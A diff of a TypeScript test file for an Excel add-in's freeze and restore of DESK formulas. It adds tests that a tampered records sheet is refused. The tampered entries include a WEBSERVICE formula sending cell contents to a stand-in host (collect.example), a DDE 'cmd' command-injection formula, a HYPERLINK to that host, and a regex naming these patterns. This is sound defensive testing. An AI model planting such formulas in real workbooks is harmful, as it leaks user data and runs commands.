@@ -6,7 +6,8 @@ import { freezeDeskFormulasIn } from "../../src/excel/shareFreeze";
 import { restoreDeskFormulasIn } from "../../src/excel/shareRestore";
 import { RECORDS_SHEET_NAME } from "../../src/core/share/records";
 import { PAYLOAD_CAP_BYTES } from "../../src/core/share/chunk";
-import { asExcelContext, FakeWorkbook, a1 } from "../support/fakeWorkbook";
+import { asExcelContext, FakeWorkbook, a1, type Scalar } from "../support/fakeWorkbook";
+import { restoreMessage } from "../../src/core/share/messages";
 
 function sampleWorkbook(): FakeWorkbook {
   const wb = new FakeWorkbook(["Data", "Locked", "Empty"]);
@@ -167,7 +168,8 @@ function bigWorkbook(count: number, formulaPadding = 0): FakeWorkbook {
     } else {
       wb.setFormula("Data", a1(i, 1), `=DESK.CONVERT(A${row},"EUR","USD")${pad}`, i * 11.9);
     }
-    wb.setValue("Data", a1(i, 3), `row ${row}`);
+    // Text past ASCII: the payload cap counts UTF-8 bytes, where "€" takes 3.
+    wb.setValue("Data", a1(i, 3), `row ${row} · €`);
   }
   return wb;
 }
@@ -218,6 +220,20 @@ describe("round trips", () => {
   });
 });
 
+describe("a DESK formula that Excel on the web shows as _xldudf_ (office-js issue 5611)", () => {
+  it("is frozen like any DESK formula, and restored under its real name", async () => {
+    const wb = new FakeWorkbook(["Data"]);
+    wb.setFormula("Data", "A1", '=ROUND(_xldudf_DESK_RATE("EUR","USD","2021-03-09"),2)', 1.19);
+    const frozen = await freezeDeskFormulasIn(asExcelContext(wb.context()));
+    expect(frozen.formulasFrozen).toBe(1);
+    expect(wb.formulaAt("Data", "A1")).toBeUndefined();
+    expect(wb.valueAt("Data", "A1")).toBe(1.19);
+    const restored = await restoreDeskFormulasIn(asExcelContext(wb.context()));
+    expect(restored.formulasRestored).toBe(1);
+    expect(wb.formulaAt("Data", "A1")).toBe('=ROUND(DESK.RATE("EUR","USD","2021-03-09"),2)');
+  });
+});
+
 describe("a user's sheet named like the records sheet", () => {
   it("is left alone, and nothing is frozen", async () => {
     const wb = sampleWorkbook();
@@ -227,5 +243,104 @@ describe("a user's sheet named like the records sheet", () => {
     const outcome = await freezeDeskFormulasIn(asExcelContext(wb.context()));
     expect(outcome).toMatchObject({ recordsSheetTaken: true, formulasFrozen: 0 });
     expect(wb.snapshot()).toEqual(before);
+  });
+});
+
+describe("Restore formulas from a tampered records sheet", () => {
+  /** The records sheet's rows as the fake workbook holds them, by the cells each names (column B). */
+  function recordRows(wb: FakeWorkbook): Map<string, number> {
+    const rows = new Map<string, number>();
+    for (let row = 3; wb.valueAt(RECORDS_SHEET_NAME, `A${row}`) !== ""; row++)
+      rows.set(
+        `${wb.valueAt(RECORDS_SHEET_NAME, `A${row}`)}!${wb.valueAt(RECORDS_SHEET_NAME, `B${row}`)}`,
+        row
+      );
+    return rows;
+  }
+
+  function setRecord(
+    wb: FakeWorkbook,
+    row: number | undefined,
+    fields: Record<string, Scalar>
+  ): void {
+    if (row === undefined) throw new Error("no such record");
+    for (const [column, value] of Object.entries(fields))
+      wb.setValue(RECORDS_SHEET_NAME, `${column}${row}`, value);
+  }
+
+  it("writes back only DESK formulas that stay inside the workbook, only where they were frozen, and names the rest", async () => {
+    const wb = sampleWorkbook();
+    const before = wb.snapshot();
+    await freezeDeskFormulasIn(asExcelContext(wb.context()));
+    const rows = recordRows(wb);
+    const tampered: Record<string, string> = {
+      "Data!B2": '=DESK.CONVERT(A2,"EUR","USD")+WEBSERVICE("https://collect.example/?"&A1)',
+      "Data!B3": '=cmd|\' /C calc\'!A0+DESK.RATE("EUR","USD")',
+      "Data!C2": '=ROUND(DESK.CONVERT([1]Prices!A2,"EUR","USD"),2)',
+      "Data!C6": '=HYPERLINK("https://collect.example/",DESK.FIGURE("operation.date"))',
+      "Data!C8": "=SUM(A2:A3)",
+    };
+    for (const [cells, formula] of Object.entries(tampered))
+      setRecord(wb, rows.get(cells), { G: formula });
+    // A record moved onto the records sheet itself, and a new one that claims a cell of another record.
+    setRecord(wb, rows.get("Data!F2:I2"), { A: RECORDS_SHEET_NAME, C: 0, D: 0 });
+    setRecord(wb, Math.max(...rows.values()) + 1, {
+      A: "Data",
+      B: "A7",
+      C: 6,
+      D: 0,
+      E: 1,
+      F: 1,
+      G: '=DESK.FIGURE("operation.date")',
+      H: "00000000",
+    });
+    // One that claims most of the sheet.
+    setRecord(wb, Math.max(...rows.values()) + 2, {
+      A: "Data",
+      B: "A1:XFD1048576",
+      C: 0,
+      D: 0,
+      E: 1_048_576,
+      F: 16_384,
+      G: '=DESK.FIGURE("operation.date")',
+      H: "00000000",
+    });
+
+    const outcome = await restoreDeskFormulasIn(asExcelContext(wb.context()));
+
+    // Only the one record left as freezing wrote it (C7) goes back.
+    expect(outcome.formulasRestored).toBe(1);
+    expect(wb.formulaAt("Data", "C7")).toBe('=DESK.FIGURE("no.such.figure")');
+    expect(
+      Object.fromEntries(outcome.refused.map((r) => [r.cells, r.why.replace(/ \(.*\)$/, "")]))
+    ).toEqual({
+      "Data!B2": "it calls WEBSERVICE, which reaches outside the workbook",
+      "Data!B3": "it holds something that is not a formula token",
+      "Data!C2": "it refers to another file",
+      "Data!C6": "it calls HYPERLINK, which reaches outside the workbook",
+      "Data!C8": "it calls no DESK function",
+      [`${RECORDS_SHEET_NAME}!A1:D1`]: "it points into the records sheet itself",
+      "Data!A6:B8": "its cells overlap those of another kept formula",
+      "Data!A7": "its cells overlap those of another kept formula",
+      "Data!A1:XFD1048576": "it claims more cells than a DESK formula fills",
+    });
+    // Nothing of the tampered formulas reached a cell: every other frozen cell keeps its frozen value.
+    const data = before.find((s) => s.name === "Data");
+    const after = wb.snapshot().find((s) => s.name === "Data");
+    for (const [address, cell] of Object.entries(after?.cells ?? {})) {
+      if (address === "C7") continue;
+      // A formula still there is one the user had before (B2*2 and the like), never a written one.
+      if (cell.formula !== undefined) expect(cell.formula).toBe(data?.cells[address].formula);
+      expect(cell.formula ?? "").not.toMatch(/WEBSERVICE|cmd\||\[1\]|HYPERLINK|SUM\(A2/);
+      expect([address, cell.value]).toEqual([address, data?.cells[address].value]);
+    }
+    expect(
+      wb.snapshot().find((s) => s.name === RECORDS_SHEET_NAME)?.cells.A1.formula
+    ).toBeUndefined();
+    // The refused records stay, so that nothing frozen is lost, and the pane names each.
+    expect(wb.findSheet(RECORDS_SHEET_NAME)).toBeDefined();
+    expect(restoreMessage(outcome)).toMatch(
+      /^Restored 1 DESK formula\. Not restored, the cells keep their values: Data!B2 =DESK\.CONVERT/
+    );
   });
 });
